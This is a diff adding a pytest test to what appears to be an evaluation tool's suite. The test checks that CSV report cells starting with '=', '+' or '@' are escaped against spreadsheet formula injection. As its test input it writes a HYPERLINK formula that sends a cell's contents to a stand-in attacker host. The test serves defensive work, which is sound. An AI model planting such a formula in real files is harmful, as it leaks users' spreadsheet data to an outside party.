@@ -322,3 +322,24 @@ def test_gate_report_paths_are_checked_before_the_gate(tmp_path, capsys):
         assert main(["gate", "--no-baseline", option, str(path)]) == 2
         err = capsys.readouterr().err
         assert err.startswith(f"error: {path}") and "PASSED" not in err, err
+
+
+def test_csv_cells_never_start_a_spreadsheet_formula(tmp_path, config):
+    """A summary is untrusted text: a claim starting with "=" is written to the CSVs with an apostrophe in
+    front, so opening claims.csv in a spreadsheet shows it rather than running it; run.json keeps it."""
+    (tmp_path / "gold/s").mkdir(parents=True)
+    (tmp_path / "cands/s").mkdir(parents=True)
+    (tmp_path / "gold/s/ref.txt").write_text("The council approved the plan on Monday.\n", "utf-8")
+    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"The council approved the plan")'
+    (tmp_path / "cands/s/@evil.txt").write_text(f"{formula}\n+The plan passed on Monday.\n", "utf-8")
+    (tmp_path / "h.toml").write_text(f'[paths]\ncache = "{config.cache}"\n', "utf-8")
+    out = tmp_path / "reports"
+    args = ["run", "--quiet", "--config", str(tmp_path / "h.toml"), "--gold", str(tmp_path / "gold")]
+    assert main(args + ["--candidates", str(tmp_path / "cands"), "--out", str(out)]) in (0, 1)
+    for name in ("claims.csv", "candidates.csv", "systems.csv"):
+        rows = pd.read_csv(out / "latest" / name, keep_default_na=False, dtype=str)
+        cells = [cell for column in rows.columns for cell in rows[column]]
+        assert not [c for c in cells if c.startswith(("=", "+", "@"))], name
+    claims = pd.read_csv(out / "latest/claims.csv", keep_default_na=False)
+    assert any(text.startswith("'=HYPERLINK") for text in claims["claim"])
+    assert formula in (out / "latest/run.json").read_text("utf-8").replace('\\"', '"')
